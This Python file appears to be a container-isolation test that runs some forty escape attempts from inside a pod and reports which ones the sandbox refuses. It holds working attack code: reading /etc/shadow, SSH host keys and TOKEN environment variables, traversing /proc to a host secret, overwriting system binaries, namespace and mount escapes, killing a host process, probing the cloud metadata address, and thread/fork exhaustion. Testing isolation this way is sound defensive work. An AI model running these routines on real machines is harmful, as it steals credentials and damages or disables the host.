"""Attacks of a program in a pod on its machine; runs in the pod, without trainc.

    python3 attacks.py CANARY HOST_PID PORT

Prints for each attack what it reached, as JSON: null if it was refused.
"""

from __future__ import annotations

import _thread
import contextlib
import ctypes
import errno
import json
import os
import resource
import signal
import socket
import stat
import subprocess
import sys
import threading
import time
from collections.abc import Callable

CANARY, HOST_PID, PORT = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long
ATTACKS: list[Callable[[], object]] = []


def attack(function: Callable[[], object]) -> Callable[[], object]:
    ATTACKS.append(function)
    return function


def call(name: str, *arguments: object) -> None:
    """Call a function of libc. Raises OSError if it fails."""
    if getattr(LIBC, name)(*arguments) < 0:
        raise OSError(ctypes.get_errno(), name)


def syscall(number: int, *arguments: int | bytes) -> int:
    """Make a system call. Raises OSError if it fails."""
    words = [ctypes.c_long(value) if isinstance(value, int) else ctypes.c_char_p(value) for value in arguments]
    result = int(LIBC.syscall(ctypes.c_long(number), *words))
    if result < 0:
        raise OSError(ctypes.get_errno(), f"system call {number}")
    return result


def read(path: str) -> str:
    with open(path, errors="replace") as file:
        return file.read(4096)


def write(path: str, content: str) -> str:
    with open(path, "w") as file:
        file.write(content)
    return path


def first(function: Callable[[str], object], paths: list[str]) -> object:
    """Return the first result of a function for some paths."""
    for path in paths:
        try:
            result = function(path)
        except OSError:
            continue
        if result:
            return result
    return None


@attack
def read_the_host_by_its_path() -> object:
    return first(read, [f"{CANARY}/secret", "/" + "../" * 20 + f"{CANARY}/secret"])


@attack
def read_the_host_by_links_of_proc() -> object:
    links = [f"/proc/{pid}/{link}" for pid in ("self", "1", str(HOST_PID)) for link in ("root", "cwd")]
    return first(read, [f"{link}/{up}{CANARY}/secret" for link in links for up in ("", "../" * 20)])


@attack
def read_the_host_by_open_files() -> object:
    folders = [f"/proc/{pid}/fd/{fd}" for pid in ("self", "1") for fd in range(64)]
    return first(read, [f"{folder}/{up}{CANARY}/secret" for folder in folders for up in ("", "../" * 20)])


@attack
def find_inherited_files() -> object:
    names = {
        fd: os.readlink(f"/proc/self/fd/{fd}")
        for fd in os.listdir("/proc/self/fd")
        if os.path.lexists(f"/proc/self/fd/{fd}")
    }
    allowed = ("pipe:", "/dev/null", "/proc/")
    return [name for name in names.values() if not name.startswith(allowed)] or None


@attack
def find_secrets_in_environments() -> object:
    environments = [read(f"/proc/{pid}/environ") for pid in os.listdir("/proc") if pid.isdecimal()]
    return [value for value in environments if "TOKEN" in value] or None


@attack
def read_password_hashes() -> object:
    return first(
        lambda path: [line for line in read(path).splitlines() if "$" in line] or None, ["/etc/shadow", "/etc/shadow-"]
    )


@attack
def read_settings_of_the_host() -> object:
    paths = [
        "/etc/fstab",
        "/etc/machine-id",
        "/etc/ssh/ssh_host_ed25519_key",
        "/etc/apt/sources.list",
        "/etc/gitconfig",
    ]
    return first(read, [*paths, "/etc/environment", "/etc/crontab", "/etc/pip.conf", "/etc/sudoers"])


@attack
def list_home_directories() -> object:
    folders = ["/root/.ssh", "/root/.aws", "/root/.config", "/root/.bashrc", "/root/.gitconfig"]
    return [path for path in folders if os.path.exists(path)] + os.listdir("/home") or None


@attack
def find_sockets_of_services() -> object:
    paths = [
        "/var/run/docker.sock",
        "/run/containerd/containerd.sock",
        "/run/systemd/private",
        "/run/dbus/system_bus_socket",
    ]
    return [path for path in paths if os.path.exists(path)] or None


@attack
def write_programs_of_the_host() -> object:
    return first(
        lambda path: write(path, ""),
        [f"{folder}/trainc-escape" for folder in ("/usr/bin", "/usr/local/bin", "/bin", "/lib")],
    )


@attack
def write_the_python_environment() -> object:
    """Its top directories are writable in the pod only; the host is judged by its files."""
    folders = [path for path in (sys.prefix, sys.base_prefix, *sys.path) if os.path.isdir(path)]
    for folder in folders:
        for name in (folder, f"{folder}/os.py"):
            with contextlib.suppress(OSError):
                write(f"{folder}/trainc-escape" if name == folder else name, "raise SystemExit")
    return first(lambda path: write(path, ""), [json.__file__, os.__file__])


@attack
def write_kernel_settings() -> object:
    names = [
        "kernel/core_pattern",
        "kernel/hostname",
        "vm/drop_caches",
        "net/ipv4/ip_forward",
        "kernel/modprobe",
        "fs/file-max",
    ]
    return first(lambda name: write(f"/proc/sys/{name}", read(f"/proc/sys/{name}")), names)


@attack
def trigger_sysrq() -> object:
    return first(lambda path: write(path, "h"), ["/proc/sysrq-trigger"])


@attack
def write_sysfs() -> object:
    return first(
        lambda path: write(path, "1"), ["/sys/kernel/uevent_helper", "/sys/power/state", "/sys/kernel/mm/ksm/run"]
    )


@attack
def read_kernel_memory() -> object:
    def some(path: str) -> str:
        with open(path, "rb") as file:
            return file.read(64).hex()  # empty where it is hidden

    return first(some, ["/proc/kcore", "/dev/mem", "/dev/kmsg", "/proc/keys", "/proc/timer_list", "/proc/kmsg"])


@attack
def open_device_nodes() -> object:
    known = {"null", "zero", "full", "random", "urandom", "tty", "ptmx"}
    modes = {name: os.stat(f"/dev/{name}").st_mode for name in os.listdir("/dev") if os.path.exists(f"/dev/{name}")}
    nodes = {name for name, mode in modes.items() if stat.S_ISCHR(mode) or stat.S_ISBLK(mode)}
    return sorted(nodes - known - {"stdin", "stdout", "stderr"}) or None


@attack
def create_device_nodes() -> object:
    def create(folder: str) -> str:
        for kind, device in ((stat.S_IFBLK, os.makedev(254, 0)), (stat.S_IFCHR, os.makedev(1, 1))):
            os.mknod(f"{folder}/trainc-node", 0o666 | kind, device)
            os.close(os.open(f"{folder}/trainc-node", os.O_RDONLY))
        return folder

    return first(create, ["/tmp", "/dev", "/dev/shm", "/v", os.getcwd()])


@attack
def mount_a_file_system() -> object:
    call("mount", b"tmpfs", b"/tmp", b"tmpfs", 0, None)
    return "mounted"


@attack
def remount_what_is_read_only() -> object:
    def remount(path: str) -> str:
        call("mount", b"", path.encode(), b"", ctypes.c_ulong(32 | 4096), None)
        return path

    return first(remount, ["/usr", "/proc/sys", "/sys", "/"])


@attack
def uncover_what_is_hidden() -> object:
    def unmount(path: str) -> str:
        call("umount2", path.encode(), 2)
        return path

    return first(unmount, ["/proc/sys", "/sys/firmware", "/proc", "/usr", "/etc/hosts"])


@attack
def mount_by_the_new_calls() -> object:
    return first(lambda path: syscall(428, -100, path.encode(), 1), ["/", "/usr"]) or first(
        lambda kind: syscall(430, kind.encode(), 0), ["tmpfs", "ext4"]
    )


@attack
def change_the_root_and_climb() -> object:
    os.makedirs("/tmp/jail", exist_ok=True)
    up = os.open("/", os.O_RDONLY)
    child = os.fork()
    if child == 0:
        try:
            os.chroot("/tmp/jail")
            os.fchdir(up)
            for _ in range(64):
                os.chdir("..")
            os.chroot(".")
            os._exit(0 if os.path.exists(f"{CANARY}/secret") else 1)
        except OSError:
            os._exit(1)
    return "escaped" if os.waitpid(child, 0)[1] == 0 else None


@attack
def create_user_namespaces() -> object:
    call("unshare", 0x10000000)
    return "unshared"


@attack
def clone_into_namespaces() -> object:
    for flag in (0x00020000, 0x10000000, 0x20000000, 0x40000000):
        try:
            child = syscall(56 if os.uname().machine == "x86_64" else 220, flag | signal.SIGCHLD, 0, 0, 0, 0)
        except OSError:
            continue
        if child == 0:
            os._exit(0)
        os.waitpid(child, 0)
        return hex(flag)
    return None


@attack
def join_namespaces() -> object:
    def join(name: str) -> str:
        with open(f"/proc/1/ns/{name}") as file:
            call("setns", file.fileno(), 0)
        return name

    return first(join, ["mnt", "user", "net", "pid"])


@attack
def see_other_processes() -> object:
    names = [read(f"/proc/{pid}/cmdline") for pid in os.listdir("/proc") if pid.isdecimal()]
    return [name for name in names if "train.py" not in name] or None


@attack
def kill_a_process_of_the_host() -> object:
    os.kill(HOST_PID, signal.SIGKILL)
    return HOST_PID


@attack
def trace_processes() -> object:
    child = os.fork()
    if child == 0:
        time.sleep(5)
        os._exit(0)
    try:
        call("ptrace", 16, child, None, None)
        return "traced"
    finally:
        os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)


@attack
def connect_to_abstract_sockets() -> object:
    with socket.socket(socket.AF_UNIX) as client:
        client.connect(f"\0trainc-escape-{PORT}")
    return "connected"


@attack
def connect_to_the_hosts_network() -> object:
    def connect(address: str) -> str:
        socket.create_connection((address, PORT), 0.3).close()
        return address

    return first(connect, ["127.0.0.1", "10.244.0.1", "10.96.0.1", "10.96.0.10", "169.254.169.254", "172.17.0.1"])


@attack
def open_sockets_without_namespaces() -> object:
    def open_socket(family: str) -> str:
        socket.socket(int(family), socket.SOCK_SEQPACKET if family == "38" else socket.SOCK_STREAM).close()
        return family

    return first(open_socket, ["40", "38", "44", "30"])


@attack
def capture_packets() -> object:
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)).close()
    return "captured"


@attack
def change_the_network() -> object:
    done = subprocess.run(["ip", "link", "set", "eth0", "down"], capture_output=True, check=False)
    return "changed" if done.returncode == 0 else None


@attack
def gain_privileges_by_setuid_programs() -> object:
    nosuid = [path for path in ("/", "/tmp", "/usr", "/v", "/dev/shm") if os.statvfs(path).f_flag & os.ST_NOSUID]
    is_locked = "NoNewPrivs:\t1" in read("/proc/self/status")
    return None if len(nosuid) == 5 and is_locked else nosuid


@attack
def hold_capabilities() -> object:
    allowed = sum(1 << number for number in (0, 1, 3, 4, 5, 6, 7, 18))
    lines = [line.split() for line in read("/proc/self/status").splitlines() if line.startswith("Cap")]
    return {name: value for name, value in lines if int(value, 16) & ~allowed} or None


@attack
def raise_capabilities() -> object:
    header = (ctypes.c_uint32 * 2)(0x20080522, 0)
    data = (ctypes.c_uint32 * 6)(*[0xFFFFFFFF] * 6)
    call("capset", ctypes.byref(header), ctypes.byref(data))
    return "raised"


@attack
def change_the_hostname() -> object:
    call("sethostname", b"escaped", 7)
    return "changed"


@attack
def call_what_the_kernel_reserves() -> object:
    """bpf, perf_event_open, userfaultfd, kexec_load, init_module, io_uring_setup, keyctl, open_by_handle_at, syslog."""
    x86 = {
        321: "bpf",
        298: "perf_event_open",
        323: "userfaultfd",
        246: "kexec_load",
        175: "init_module",
        425: "io_uring_setup",
    }
    x86 |= {250: "keyctl", 304: "open_by_handle_at", 103: "syslog", 169: "reboot", 167: "swapon", 163: "acct"}
    arm = {
        280: "bpf",
        241: "perf_event_open",
        282: "userfaultfd",
        104: "kexec_load",
        105: "init_module",
        425: "io_uring_setup",
    }
    arm |= {219: "keyctl", 265: "open_by_handle_at", 116: "syslog", 142: "reboot", 224: "swapon", 89: "acct"}
    reached = []
    for number, name in (x86 if os.uname().machine == "x86_64" else arm).items():
        try:
            syscall(number, 0, 0, 0, 0, 0)
            reached.append(name)
        except OSError as problem:
            if problem.errno not in (errno.EPERM, errno.ENOSYS):
                reached.append(f"{name}: {problem.strerror}")
    return reached or None


@attack
def write_a_huge_file() -> object:
    def fill(folder: str) -> str:
        with open(f"{folder}/huge", "wb") as file:
            try:
                os.posix_fallocate(file.fileno(), 0, 2**42)
            finally:
                os.unlink(f"{folder}/huge")
        return folder

    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    return first(fill, ["/tmp", "/dev/shm", "/v", "/root", os.getcwd()])


@attack
def raise_limits() -> object:
    for kind in (resource.RLIMIT_NPROC, resource.RLIMIT_CORE, resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE):
        try:
            resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            return kind
        except (OSError, ValueError):
            continue
    return None


@attack
def fork_without_end() -> object:
    """Threads count as processes: getrlimit(2), RLIMIT_NPROC. On a busy machine they take a second, forks a minute."""
    end = threading.Event()
    threading.stack_size(2**16)
    started = 0
    try:
        with contextlib.suppress(RuntimeError):
            while started < 20000:
                _thread.start_new_thread(end.wait, ())
                started += 1
        child = os.fork()
        if child == 0:
            os._exit(0)
        os.waitpid(child, 0)
        return started
    except OSError:
        return None
    finally:
        end.set()


@attack
def write_where_the_host_would_be() -> object:
    """Succeeds in the pod's own root; the host is judged by its files."""
    os.makedirs(CANARY, exist_ok=True)
    write(f"{CANARY}/created", "x")
    write(f"{CANARY}/secret", "overwritten")
    return None


for function in ATTACKS:
    try:
        result = function()
    except OSError:
        result = None
    print(json.dumps([function.__name__, result]), flush=True)
